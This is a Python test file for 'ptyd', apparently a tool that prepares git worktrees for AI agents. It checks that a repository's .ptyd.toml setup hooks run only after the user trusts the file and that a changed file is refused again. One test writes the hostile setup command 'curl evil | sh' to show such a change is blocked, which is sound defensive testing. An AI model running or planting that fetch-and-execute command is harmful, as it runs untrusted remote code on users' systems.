"""A new agent worktree prepared like the main checkout (.ptyd.toml: copy, symlink, setup), only
once the user trusted the file (`ptyd trust-repo`): real repositories, a real daemon, the git CLI
as referee."""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from ptyd.client import Client
from tests.conftest import (
    DaemonProcess,
    run_cli,
    short_tempdir,
    start_daemon,
    stop_daemon,
    wait_until,
)
from tests.gitrepos import git, make_project


@pytest.fixture
def daemon(monkeypatch: pytest.MonkeyPatch) -> Iterator[DaemonProcess]:
    """A daemon and CLI whose trust record lives in a private $XDG_STATE_HOME."""
    base = short_tempdir()
    monkeypatch.setenv("XDG_STATE_HOME", str(base / "state"))
    d = start_daemon(base / "run")
    yield d
    assert stop_daemon(d) == 0, d.log()
    assert "Traceback" not in d.log(), d.log()
    shutil.rmtree(base, ignore_errors=True)


def setup_toml(setup: list[str]) -> str:
    return ("[worktree]\n"
            'copy = [".env", "config/*.local.yml"]\n'
            'symlink = ["node_modules"]\n'
            f"setup = {json.dumps(setup)}\n")


def write_setup(project: Path, setup: list[str]) -> None:
    (project / ".ptyd.toml").write_text(setup_toml(setup))


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A repository with untracked .env, config/db.local.yml and node_modules/, and a
    .ptyd.toml whose setup counts its runs in tmp_path/runs."""
    path = make_project(tmp_path / "project", {
        "README.md": "# demo\n",
        "setup.sh": f'echo "installing deps"\necho run >> {tmp_path}/runs\n',
        ".ptyd.toml": setup_toml(["sh", "setup.sh"])})
    (path / ".env").write_text("SECRET=hunter2\n")
    (path / "config").mkdir()
    (path / "config" / "db.local.yml").write_text("db: local\n")
    (path / "node_modules" / "left-pad").mkdir(parents=True)
    return path


def cli(d: DaemonProcess, *args: str) -> subprocess.CompletedProcess[str]:
    return d.cli(*args, timeout=60)


def screen(c: Client, name: str) -> str:
    return bytes(c.read(name, 0)["data"]).decode(errors="replace")


def test_an_untrusted_ptyd_toml_is_refused_with_a_clear_message(
        daemon: DaemonProcess, project: Path) -> None:
    refused = cli(daemon, "new", "--repo", str(project), "--task", "T1", "-s", "a1", "-d",
                  "--", "true")
    assert refused.returncode == 1
    assert ".ptyd.toml asks to copy files and run commands" in refused.stderr
    assert f"ptyd trust-repo {project}" in refused.stderr
    assert "agent/a1-T1" not in git(project, "branch", "--list")  # nothing left behind
    assert not (project / "sandbox" / "a1").exists()
    assert cli(daemon, "trust-repo", str(project)).returncode == 0
    (project / ".ptyd.toml").write_text('[worktree]\nsetup = ["sh", "-c", "curl evil | sh"]\n')
    changed = cli(daemon, "new", "--repo", str(project), "--task", "T1", "-s", "a1", "-d",
                  "--", "true")
    assert changed.returncode == 1 and "or it changed since" in changed.stderr


def test_a_trusted_repository_prepares_the_worktree_once_and_keeps_copies_out_of_commits(
        daemon: DaemonProcess, project: Path, tmp_path: Path) -> None:
    trusted = cli(daemon, "trust-repo", str(project / "config"))  # any directory inside
    assert trusted.returncode == 0 and "trusted" in trusted.stdout, trusted.stderr
    made = cli(daemon, "new", "--repo", str(project), "--task", "T1", "-s", "a1", "-d", "--",
               "sh", "-c", "cat .env; echo work > work.txt; echo AGENT-DONE; exec sleep 60")
    assert made.returncode == 0, made.stderr
    with daemon.client() as c:
        wait_until(lambda: "AGENT-DONE" in screen(c, "a1"), 30, message="the agent")
        out = screen(c, "a1")
        # The setup's output is in the session's scrollback, before the agent's.
        assert out.index("installing deps") < out.index("SECRET=hunter2") < out.index(
            "AGENT-DONE")
    worktree = project / "sandbox" / "a1"
    assert (worktree / "config" / "db.local.yml").read_text() == "db: local\n"
    assert (worktree / "node_modules").is_symlink()
    assert (worktree / "node_modules").resolve() == (project / "node_modules").resolve()
    assert (tmp_path / "runs").read_text() == "run\n"
    assert git(worktree, "status", "--porcelain") == "?? work.txt"  # copies are excluded
    assert cli(daemon, "commit", "a1", "-m", "work").returncode == 0
    committed = git(project, "show", "--name-only", "--format=", "agent/a1-T1").split()
    assert committed == ["work.txt"]
    # The same agent again (the worktree reused): the setup does not run twice.
    assert cli(daemon, "rm", "-f", "a1").returncode == 0
    again = cli(daemon, "new", "--repo", str(project), "--task", "T1", "-s", "a1", "-d", "--",
                "sh", "-c", "echo AGAIN; exec sleep 60")
    assert again.returncode == 0, again.stderr
    with daemon.client() as c:
        wait_until(lambda: "AGAIN" in screen(c, "a1"), 30, message="the agent again")
        assert "installing deps" not in screen(c, "a1")
    assert (tmp_path / "runs").read_text() == "run\n"


def test_a_failing_setup_blocks_the_agent_with_error_setup_failed(
        daemon: DaemonProcess, project: Path, tmp_path: Path) -> None:
    write_setup(project, ["sh", "-c", "echo npm ERR! broken; exit 3"])
    assert cli(daemon, "trust-repo", str(project)).returncode == 0
    made = cli(daemon, "new", "--repo", str(project), "--task", "T2", "-s", "a2", "-d", "--",
               "sh", "-c", "echo AGENT-STARTED; touch started; sleep 60")
    assert made.returncode == 0, made.stderr
    with daemon.client() as c:
        done = c.wait("a2", timeout=30)
        info = c.info("a2")
        assert done["exited"] and done["exit_code"] == 3
        assert (info["state"], info["state_reason"], info["state_text"]) == (
            "exited", "setup_failed", "exit code 3")
        states = [(e["state"], e["state_reason"]) for e in c.events(0)["events"]
                  if e["type"] == "session.state" and e["session"] == "a2"]
        assert states[-2:] == [("error", "setup_failed"), ("exited", "setup_failed")]
        out = screen(c, "a2")
    assert "npm ERR! broken" in out and "worktree setup failed (exit code 3)" in out
    assert "AGENT-STARTED" not in out
    assert not (project / "sandbox" / "a2" / "started").exists()
    assert (project / "sandbox" / "a2" / ".env").exists()  # the files were copied all the same


def test_branch_manager_worktrees_get_the_files_and_the_setup_runs_at_the_agent_start(
        daemon: DaemonProcess, project: Path, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    from ptyd.runtime.branches import BranchManager

    monkeypatch.setenv("PTYD_DIR", str(daemon.dir))
    branches = BranchManager(repo_dir=project)
    with pytest.raises(Exception, match="ptyd trust-repo"):
        branches.create_agent_branch(agent_id="b1", task_id="T3")
    assert cli(daemon, "trust-repo", str(project)).returncode == 0
    branches.create_agent_branch(agent_id="b1", task_id="T3")
    assert (project / "sandbox" / "b1" / ".env").read_text() == "SECRET=hunter2\n"
    assert not (tmp_path / "runs").exists()  # no session yet: the setup waits for one
    made = cli(daemon, "new", "--repo", str(project), "--task", "T3", "-s", "b1", "-d", "--",
               "sh", "-c", "echo B1-UP; exec sleep 60")
    assert made.returncode == 0, made.stderr
    with daemon.client() as c:
        wait_until(lambda: "B1-UP" in screen(c, "b1"), 30, message="the agent")
    assert (tmp_path / "runs").read_text() == "run\n"


def test_the_readme_ptyd_toml_example_is_valid() -> None:
    import tomllib

    from ptyd.daemon.git.setup import parse

    readme = (Path(__file__).parents[2] / "README.md").read_text()
    section = readme.split("### New worktrees ready to build")[1].split("\n## ")[0]
    example = tomllib.loads(section.split("```toml\n")[1].split("```")[0])
    plan = parse(example["worktree"], "README.md")
    assert plan.copy == (".env", "config/*.local.yml") and plan.setup == ("npm", "ci")


def test_worktree_in_the_configuration_file_needs_no_trust_and_wins_over_ptyd_toml(
        project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    config = tmp_path / "config.toml"
    config.write_text(f'[worktree."{project}"]\ncopy = [".env"]\n'
                      f'setup = ["sh", "-c", "echo from-config >> {tmp_path}/runs"]\n')
    shown = run_cli("config", "show", "--config", str(config))
    assert shown.returncode == 0, shown.stderr
    assert f'[worktree."{project}"]' in shown.stdout and 'copy = [".env"]' in shown.stdout
    base = short_tempdir()
    monkeypatch.setenv("XDG_STATE_HOME", str(base / "state"))  # nothing trusted there
    d = start_daemon(base / "run", "--config", str(config))
    try:
        made = cli(d, "new", "--repo", str(project), "--task", "T4", "-s", "c1", "-d", "--",
                   "sh", "-c", "echo C1-UP; exec sleep 60")
        assert made.returncode == 0, made.stderr
        with d.client() as c:
            wait_until(lambda: "C1-UP" in screen(c, "c1"), 30, message="the agent")
        worktree = project / "sandbox" / "c1"
        assert (worktree / ".env").exists() and not (worktree / "node_modules").exists()
        assert (tmp_path / "runs").read_text() == "from-config\n"
    finally:
        assert stop_daemon(d) == 0, d.log()
        shutil.rmtree(base, ignore_errors=True)
    bad = tmp_path / "bad.toml"
    bad.write_text('[worktree."relative/repo"]\ncopy = [".env"]\n')
    refused = run_cli("config", "show", "--config", str(bad))
    assert refused.returncode == 1 and "must be absolute" in refused.stderr


def test_a_glob_never_copies_another_agents_worktree(
        daemon: DaemonProcess, project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from ptyd.runtime.branches import BranchManager

    (project / ".ptyd.toml").write_text('[worktree]\ncopy = ["**/.env"]\n')
    assert cli(daemon, "trust-repo", str(project)).returncode == 0
    monkeypatch.setenv("PTYD_DIR", str(daemon.dir))
    branches = BranchManager(repo_dir=project)
    branches.create_agent_branch(agent_id="g1", task_id="T5")
    (project / "sandbox" / "g1" / ".env").write_text("G1-ONLY\n")
    branches.create_agent_branch(agent_id="g2", task_id="T5")
    second = project / "sandbox" / "g2"
    assert (second / ".env").read_text() == "SECRET=hunter2\n"
    assert not (second / "sandbox").exists()  # nothing of g1's worktree


def test_trust_repo_records_path_and_hash_privately_and_revokes(
        project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    record = tmp_path / "state" / "ptyd" / "trusted-repos.json"
    assert run_cli("trust-repo", str(project)).returncode == 0
    digest = hashlib.sha256((project / ".ptyd.toml").read_bytes()).hexdigest()
    assert json.loads(record.read_text())["repos"] == {str(project.resolve()): digest}
    assert record.stat().st_mode & 0o777 == 0o600
    revoked = run_cli("trust-repo", "--revoke", str(project))
    assert revoked.returncode == 0 and "no longer trusted" in revoked.stdout
    assert json.loads(record.read_text())["repos"] == {}
    (tmp_path / "plain").mkdir()
    not_repo = run_cli("trust-repo", str(tmp_path / "plain"))
    assert not_repo.returncode == 1 and "is not in a git repository" in not_repo.stderr
    (project / ".ptyd.toml").unlink()
    nothing = run_cli("trust-repo", str(project))
    assert nothing.returncode == 1 and "has no .ptyd.toml" in nothing.stderr
